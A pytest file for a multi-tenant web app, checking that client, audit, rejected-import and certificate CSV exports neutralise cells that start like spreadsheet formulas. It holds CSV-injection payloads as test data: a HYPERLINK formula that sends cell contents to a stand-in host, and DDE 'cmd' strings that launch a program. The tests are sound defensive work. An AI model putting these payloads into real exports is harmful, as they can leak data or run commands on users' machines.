"""Every CSV download is safe to open in a spreadsheet: no cell is read as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import login, login_operator

EVIL_NAME = '=HYPERLINK("https://x.example/?"&A2,"y")'
EVIL_NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def _assert_no_formula(rows) -> None:
    for cell in _cells(rows):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"a spreadsheet would run {cell!r}"


@pytest.fixture
def tampered(app, factory, client):
    """Tenant acme, its administrator signed in, and a client whose name and notes are formulas."""
    tenant = factory.tenant("acme", language="en")
    factory.user(tenant, "admin@acme.test", role_key="admin")
    login(client, "acme", "admin@acme.test")
    response = client.post(
        "/acme/clients/new",
        data={
            "kind": "company",
            "country": "ES",
            "tax_id": "B12345674",
            "company_name": EVIL_NAME,
            "notes": EVIL_NOTES,
            "phone": "+34600111222",
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    return tenant


def test_the_client_export_neutralises_formulas_and_imports_back_unchanged(app, tampered, client, run_jobs):
    from sqlalchemy import select

    from core.clients.models import Client
    from core.extensions import db
    from tenants.context import tenant_context

    rows = _rows(client.get("/acme/clients/export.csv"))
    _assert_no_formula(rows)
    assert "'" + EVIL_NAME in _cells(rows) and "'" + EVIL_NOTES in _cells(rows) and "'+34600111222" in _cells(rows)
    exported = io.StringIO()
    csv.writer(exported).writerows(rows)
    client.post(
        "/acme/clients/import",
        data={"file": (io.BytesIO(exported.getvalue().encode()), "export.csv"), "group": ""},
        content_type="multipart/form-data",
    )
    run_jobs()
    with app.app_context(), tenant_context(tampered.id):
        found = db.session.execute(select(Client.company_name, Client.notes, Client.phone)).all()
    assert [tuple(row) for row in found] == [(EVIL_NAME, EVIL_NOTES, "+34600111222")], "the import takes the mark off"


def test_the_audit_exports_neutralise_formulas(app, tampered, client, factory):
    rows = _rows(client.get("/acme/audit/export.csv"))
    _assert_no_formula(rows)
    assert any(cell.startswith("'" + EVIL_NAME) for cell in _cells(rows)), "the client's label"
    factory.operator()
    operator = app.test_client()
    login_operator(operator)
    rows = _rows(operator.get("/operator/audit/export.csv"))
    _assert_no_formula(rows)
    assert any(cell.startswith("'" + EVIL_NAME) for cell in _cells(rows))


def test_the_rejected_rows_of_an_import_neutralise_formulas(app, tampered, client, run_jobs):
    bad = "tax_id,company_name,notes\nNOT-A-TAX-ID,-2+3+cmd|' /C calc'!A0,=1+1\n"
    response = client.post(
        "/acme/clients/import",
        data={"file": (io.BytesIO(bad.encode()), "bad.csv"), "group": ""},
        content_type="multipart/form-data",
    )
    run_jobs()
    rows = _rows(client.get(f"{response.location}/rejected.csv"))
    _assert_no_formula(rows)
    assert "'-2+3+cmd|' /C calc'!A0" in _cells(rows) and "'=1+1" in _cells(rows)


def test_the_certificate_report_neutralises_formulas(app, tampered, client):
    rows = _rows(client.get("/acme/certificates/report.csv"))
    _assert_no_formula(rows)
    assert "'" + EVIL_NAME in _cells(rows)
